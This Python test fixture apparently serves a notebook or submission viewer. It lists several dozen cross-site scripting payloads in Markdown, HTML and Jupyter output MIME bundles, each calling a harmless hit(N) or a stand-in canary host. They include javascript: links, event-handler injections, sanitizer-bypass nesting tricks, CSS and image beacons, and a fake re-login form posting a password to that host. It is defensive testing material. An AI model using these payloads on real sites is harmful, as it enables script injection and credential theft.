"""Pieces of HTML, Markdown and output that try to run a script in the browser of whoever looks at a submission.

Each calls `hit(N)`, where N is its number, or asks the server at CANARY for N. tests/hostile/test_pages.py says what must
hold.
"""

from __future__ import annotations

from typing import Any

CANARY = "http://canary.example"


MARKDOWN = (
    "<script>hit(N)</script>",
    "<ScRiPt\n>hit(N)</sCrIpT >",
    "<script src=CANARY/N></script>",
    "<script type=module>hit(N)</script>",
    "<img src=x onerror=hit(N)>",
    "<img src=x onerror='hit(N)' style='position:fixed;inset:0;width:100vw;height:100vh'>",
    "<svg onload=hit(N)></svg>",
    "<svg><script>hit(N)</script></svg>",
    "<svg><animate onbegin=hit(N) attributeName=x dur=1s></svg>",
    "<svg><a xlink:href='javascript:hit(N)'><text y=9>press</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit(N)></style></mglyph></table></mtext></math>",
    "<details open ontoggle=hit(N)><summary>More</summary></details>",
    "<input autofocus onfocus=hit(N)>",
    "<select autofocus onfocus=hit(N)></select>",
    "<video><source onerror=hit(N)></video>",
    "<audio src=x onerror=hit(N)></audio>",
    "<iframe src='javascript:parent.hit(N)'></iframe>",
    "<iframe srcdoc='<script>parent.hit(N)</script>'></iframe>",
    "<iframe src='data:text/html,<script>hit(N)</script>'></iframe>",
    "<object data='data:text/html,<script>hit(N)</script>'></object>",
    "<embed src='data:text/html,<script>hit(N)</script>'>",
    "<object data=CANARY/N></object>",
    "<a href='javascript:hit(N)'>press</a>",
    "<a href='java&#x0a;script:hit(N)'>press</a>",
    "<a href=' &#14; javascript:hit(N)'>press</a>",
    "[press](javascript:hit(N))",
    "[press](JaVaScRiPt:hit(N))",
    "<javascript:hit(N)>",
    "<div onmouseover=hit(N)>over here</div>",
    "<b onclick=hit(N)>press</b>",
    "<div style='animation:blink 1s' onanimationstart=hit(N)>x</div><style>@keyframes blink{to{opacity:.5}}</style>",
    "<form action='javascript:hit(N)'><button>Save</button></form>",
    "<button formaction='javascript:hit(N)' form=none>Save</button>",
    "<form action=CANARY/N><input name=token type=password><button>Log in again</button></form>",
    "<img src=CANARY/N>",
    "![plot](CANARY/N)",
    "<img srcset='CANARY/N 1x'>",
    "<picture><source srcset=CANARY/N><img></picture>",
    "<video poster=CANARY/N></video>",
    "<link rel=stylesheet href=CANARY/N>",
    "<style>@import 'CANARY/N';</style>",
    "<style>body{background:url(CANARY/N)}</style>",
    "<div style='background-image:url(CANARY/N)'>x</div>",
    "<div style='color:red;background:url(CANARY/N)'>x</div>",
    "<noscript><p title='</noscript><img src=x onerror=hit(N)>'></noscript>",
    "<textarea></textarea><p title='</textarea><img src=x onerror=hit(N)>'>",
    "<!--><img src=x onerror=hit(N)>-->",
    "<![CDATA[><img src=x onerror=hit(N)>]]>",
    "<template><img src=x onerror=hit(N)></template><img/src=x/onerror=hit(N)>",
    "</div></div></div></div><script>hit(N)</script>",
    "`</code></pre><script>hit(N)</script>`<script>hit(N)</script>",
    "<x-y tabindex=1 onfocus=hit(N) autofocus>x</x-y>",
    "<p data-toggle=tooltip data-html=true title='<img src=x onerror=hit(N)>' class=name-hidden>hover</p>",
    "# <img src=x onerror=hit(N)>",
    "[ref]: javascript:hit(N)\n\n[press][ref]",
    "| a |\n|---|\n| <img src=x onerror=hit(N)> |",
    "```<img/src=x/onerror=hit(N)>\nx\n```",
    "```mermaid\n<img src=x onerror=hit(N)>\n```",
    "$$</script><img src=x onerror=hit(N)>$$",
    "\\begin{align}<img src=x onerror=hit(N)>\\end{align}",
    "<table background=CANARY/N><tr><td>x</td></tr></table>",
    "<body onload=hit(N) background=CANARY/N>",
    "<marquee onstart=hit(N)>x</marquee>",
    "<iframe name=x src=CANARY/N></iframe>",
    "<isindex action=javascript:hit(N) type=image>",
)
"""Markdown of a cell that the learner writes."""

OUTPUTS: tuple[tuple[dict[str, Any], dict[str, Any]], ...] = (
    ({"text/html": "<script>hit(N)</script>"}, {}),
    ({"text/html": "<img src=x onerror=hit(N)>"}, {}),
    ({"text/html": "<div><b onmouseover=hit(N)>over</b>"}, {}),
    ({"text/html": "<script>hit(N)</script>"}, {"text/html": {"isolated": True}}),
    ({"text/html": "<iframe srcdoc='<script>parent.hit(N)</script>'></iframe>"}, {}),
    ({"text/markdown": "<script>hit(N)</script>"}, {}),
    ({"text/markdown": "![x](CANARY/N)"}, {}),
    ({"application/javascript": "hit(N)"}, {}),
    ({"text/javascript": "hit(N)"}, {}),
    ({"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg'><script>hit(N)</script></svg>"}, {}),
    ({"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg'><image href='CANARY/N'/></svg>"}, {}),
    ({"image/svg+xml": "</svg><img src=x onerror=hit(N)>"}, {}),
    ({"image/png": '" onerror=hit(N) x="'}, {}),
    ({"image/png": "iVBORw0KGgo="}, {"filenames": {"image/png": "CANARY/N"}}),
    ({"image/png": "iVBORw0KGgo="}, {"image/png": {"width": "1 onerror=hit(N)"}}),
    ({"image/jpeg": "AAAA"}, {"image/jpeg": {"alt": '" onerror="hit(N)'}}),
    ({"text/latex": "$\\href{javascript:hit(N)}{press}$ <img src=x onerror=hit(N)>"}, {}),
    ({"text/vnd.mermaid": "</pre><img src=x onerror=hit(N)>"}, {}),
    ({"text/plain": "<script>hit(N)</script>\x1b[31m<img src=x onerror=hit(N)>"}, {}),
    (
        {
            "application/vnd.jupyter.widget-view+json": {
                "version_major": 2,
                "version_minor": 0,
                "model_id": "</script><img src=x onerror=hit(N)>",
            }
        },
        {},
    ),
)
"""What a cell of the learner displays: forms by their MIME type, and metadata."""


def markdown() -> list[str]:
    """MARKDOWN, numbered from 1."""
    return [_numbered(text, number) for number, text in enumerate(MARKDOWN, start=1)]


def outputs() -> list[tuple[dict[str, Any], dict[str, Any]]]:
    """OUTPUTS, numbered from 501."""
    return [(_numbered(data, n), _numbered(about, n)) for n, (data, about) in enumerate(OUTPUTS, start=501)]


def named(number: int) -> str:
    """The piece that has this number."""
    return str(OUTPUTS[number - 501] if number > 500 else MARKDOWN[number - 1])


def _numbered(value: Any, number: int) -> Any:
    if isinstance(value, str):
        return value.replace("CANARY/N", f"{CANARY}/{number}").replace("(N)", f"({number})")
    if isinstance(value, dict):
        return {key: _numbered(entry, number) for key, entry in value.items()}
    return value
